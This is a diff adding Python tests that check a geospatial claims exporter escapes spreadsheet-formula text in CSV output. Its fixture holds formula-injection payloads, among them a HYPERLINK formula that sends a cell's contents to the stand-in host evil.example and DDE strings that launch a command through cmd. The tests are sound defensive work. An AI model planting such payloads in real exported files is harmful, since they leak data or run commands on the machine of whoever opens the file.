@@ -150,3 +150,61 @@ def test_export_replaces_an_older_file(rows, tmp_path):
     write_claims(rows, path)
     assert len(geopandas.read_file(path)) == 2
     assert [p.name for p in tmp_path.iterdir()] == ["claims.geojson"]
+
+
+# -- text a spreadsheet would run ------------------------------------------------------------------
+FORMULAS = {"quote": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "title": "+cmd|' /C calc'!A0",
+            "source": "@SUM(1+1)*cmd|' /C calc'!A0", "surface": "-2+3", "date_phrase": "\t=1+1",
+            "cue": "\r=1+1"}
+
+
+@pytest.fixture
+def formula_rows(make_article, make_mention, make_claim):
+    """One stored claim whose text fields each start like a spreadsheet formula."""
+    m = make_mention(12, "Testivka", 900001, 48.5, -37.5)
+    fields = {k: v for k, v in FORMULAS.items() if k in ("quote", "surface", "date_phrase", "cue")}
+    with Store() as store:
+        store.ingest(make_article(title=FORMULAS["title"], source=FORMULAS["source"]), [m],
+                     [make_claim(m, **fields)])
+        return store.claims()
+
+
+def _csv_dicts(text: str) -> list[dict]:
+    import io
+
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_formula_text_is_neutralised_in_the_csv_export(formula_rows, tmp_path):
+    path = write_claims(formula_rows, tmp_path / "claims.csv")
+    (row,) = _csv_dicts(path.read_bytes().decode("utf-8"))
+    for key, value in FORMULAS.items():
+        assert row[key] == "'" + value, key
+    assert row["lon"] == "-37.5"  # numbers stay numbers
+    assert row["place"] == "Testivka" and row["attribution"] == ATTRIBUTION
+
+
+def test_formula_text_is_neutralised_in_the_csv_listing(formula_rows):
+    from geo.store.listing import format_claims
+
+    (row,) = _csv_dicts(format_claims(formula_rows, "csv"))
+    for key, value in FORMULAS.items():
+        assert row[key] == "'" + value, key
+    assert row["lon"] == "-37.5" and row["claim_id"] == str(formula_rows[0]["claim_id"])
+
+
+def test_geojson_and_geopackage_keep_formula_text_exact(formula_rows, tmp_path):
+    data = json.loads(write_claims(formula_rows, tmp_path / "claims.geojson").read_text(encoding="utf-8"))
+    props = data["features"][0]["properties"]
+    frame = geopandas.read_file(write_claims(formula_rows, tmp_path / "claims.gpkg"), layer="claims")
+    for key, value in FORMULAS.items():
+        assert props[key] == value and frame.iloc[0][key] == value, key
+
+
+@pytest.mark.parametrize("value, cell", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("a=1", "a=1"), ("", ""), (" =1", " =1"), (-3.5, -3.5), (12, 12), (None, None), (True, True)])
+def test_safe_cell(value, cell):
+    from geo.store.csvsafe import safe_cell
+
+    assert safe_cell(value) == cell
